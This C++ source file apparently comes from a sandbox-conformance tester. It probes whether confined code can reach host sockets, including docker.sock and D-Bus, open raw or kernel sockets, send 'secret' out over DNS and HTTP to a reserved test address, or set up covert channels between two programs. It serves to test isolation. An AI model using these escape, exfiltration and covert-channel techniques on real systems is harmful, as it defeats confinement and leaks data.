#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_alg.h>
#include <linux/netlink.h>
#include <linux/vm_sockets.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <sys/file.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstddef>
#include <cstring>
#include <string>

#include "session.hpp"
#include "trespass.hpp"

namespace misbehave {
namespace {

sockaddr_in internet(const char* host, long port) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<std::uint16_t>(port));
  ::inet_pton(AF_INET, host, &address.sin_addr);
  return address;
}

// tcp=PORT, udp=PORT: somebody listens there on the host.
std::string connect_to_the_host() {
  const int socket = ::socket(AF_INET, SOCK_STREAM, 0);
  const auto address = internet("127.0.0.1", options.number("tcp"));
  return if_possible(::connect(socket, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0,
                     "connected to the host");
}
std::string send(const char* host, long port, const std::string& bytes) {
  const int socket = ::socket(AF_INET, SOCK_DGRAM, 0);
  const auto address = internet(host, port);
  return if_possible(::sendto(socket, bytes.data(), bytes.size(), MSG_DONTWAIT,
                              reinterpret_cast<const sockaddr*>(&address), sizeof address) > 0,
                     "sent to " + std::string(host) + ":" + std::to_string(port));
}
std::string send_to_the_host() { return send("127.0.0.1", options.number("udp"), "secret"); }
// 192.0.2.0/24 is nobody's (RFC 5737).
std::string ask_a_name_server() {
  if (auto breach = send("192.0.2.1", 53, "secret.example.org"); !breach.empty()) return breach;
  return send("127.0.0.53", 53, "secret.example.org");
}
std::string call_a_web_server() {
  const int socket = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  const auto address = internet("192.0.2.1", 80);
  const int connected = ::connect(socket, reinterpret_cast<const sockaddr*>(&address), sizeof address);
  return if_possible(socket >= 0 && (connected == 0 || errno == EINPROGRESS), "called 192.0.2.1:80");
}

// Also inside a network namespace of its own there is kernel code behind each of these families.
std::string make(int family, int type, int protocol, const char* name) {
  const int socket = ::socket(family, type, protocol);
  if (socket < 0) return {};
  ::close(socket);
  return std::string("made a socket of ") + name;
}

int unix_socket(sockaddr_un& address, socklen_t& size, const std::string& name) {
  address = {};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path, name.data(), std::min(name.size(), sizeof address.sun_path - 1));
  size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + name.size());
  return ::socket(AF_UNIX, SOCK_STREAM, 0);
}
std::string connect_by_name(const std::string& name) {
  sockaddr_un address;
  socklen_t size = 0;
  const int socket = unix_socket(address, size, name);
  return if_possible(::connect(socket, reinterpret_cast<const sockaddr*>(&address), size) == 0,
                     "connected to a socket of the host");
}
// abstract=NAME, socket=PATH: the host listens there.
std::string connect_to_abstract_name() {
  return connect_by_name(std::string(1, '\0') + options.value("abstract"));
}
std::string connect_to_path() {
  if (auto breach = connect_by_name(options.value("socket")); !breach.empty()) return breach;
  for (const char* path : {"/run/dbus/system_bus_socket", "/run/docker.sock", "/tmp/.X11-unix/X0"}) {
    if (auto breach = connect_by_name(path); !breach.empty()) return breach;
  }
  return {};
}

// Two programs of one author, in the same game, leave a sign wherever they can and look for the other's.
// meeting=WORD: what they have agreed upon.
std::string meet_in(const std::string& folder) {
  const std::string path = folder + "/" + options.value("meeting");
  const int file = ::open(path.c_str(), O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0666);
  if (file >= 0) ::close(file);
  return if_possible(file < 0 && errno == EEXIST, "met the other one in " + path);
}
std::string meet_in_folders() {
  for (const char* folder : {"/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue", "/run", "."}) {
    if (auto breach = meet_in(folder); !breach.empty()) return breach;
  }
  return {};
}
std::string meet_by_abstract_name() {
  sockaddr_un address;
  socklen_t size = 0;
  const int socket = unix_socket(address, size, std::string(1, '\0') + options.value("meeting"));
  const int bound = ::bind(socket, reinterpret_cast<const sockaddr*>(&address), size);
  return if_possible(socket >= 0 && bound != 0 && errno == EADDRINUSE, "met the other one at a socket");
}
std::string meet_in_shared_memory() {
  const auto key = static_cast<key_t>(options.number("key"));
  const int segment = ::shmget(key, 4096, IPC_CREAT | IPC_EXCL | 0666);
  return if_possible(segment < 0 && errno == EEXIST, "met the other one in shared memory");
}
std::string meet_in_a_queue() {
  const std::string name = "/" + options.value("meeting");
  const mqd_t queue = ::mq_open(name.c_str(), O_CREAT | O_EXCL | O_RDWR, 0666, nullptr);
  return if_possible(queue == static_cast<mqd_t>(-1) && errno == EEXIST, "met the other one in a queue");
}
// The package's files are the same ones for both.
std::string mark_times_of_the_package() {
  struct stat before {};
  struct stat after {};
  const bool known = ::stat("/proc/self/exe", &before) == 0;
  ::utimensat(AT_FDCWD, "/proc/self/exe", nullptr, 0);
  return if_possible(
      known && ::stat("/proc/self/exe", &after) == 0 &&
          (before.st_mtim.tv_sec != after.st_mtim.tv_sec || before.st_mtim.tv_nsec != after.st_mtim.tv_nsec),
      "set the times of a file of the package");
}
std::string lock_the_package() {
  const int file = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  return if_possible(::flock(file, LOCK_EX | LOCK_NB) != 0 && errno == EWOULDBLOCK,
                     "met the other one at a lock");
}

}  // namespace

const Attempts& attempts_on_network() {
  static const Attempts attempts = {
      {"network.tcp", connect_to_the_host},
      {"network.udp", send_to_the_host},
      {"network.raw", [] { return make(AF_INET, SOCK_RAW, IPPROTO_ICMP, "IP packets"); }},
      {"network.packet", [] { return make(AF_PACKET, SOCK_RAW, 0, "frames"); }},
      {"network.netlink", [] { return make(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE, "netlink"); }},
      {"network.vsock", [] { return make(AF_VSOCK, SOCK_STREAM, 0, "virtual machines"); }},
      {"network.crypto", [] { return make(AF_ALG, SOCK_SEQPACKET, 0, "the kernel's ciphers"); }},
      {"unix.abstract", connect_to_abstract_name},
      {"unix.path", connect_to_path},
      {"exfiltrate.dns", ask_a_name_server},
      {"exfiltrate.http", call_a_web_server},
      {"meet.folders", meet_in_folders},
      {"meet.abstract", meet_by_abstract_name},
      {"meet.memory", meet_in_shared_memory},
      {"meet.queue", meet_in_a_queue},
      {"meet.times", mark_times_of_the_package},
      {"lock", lock_the_package},
  };
  return attempts;
}

}  // namespace misbehave
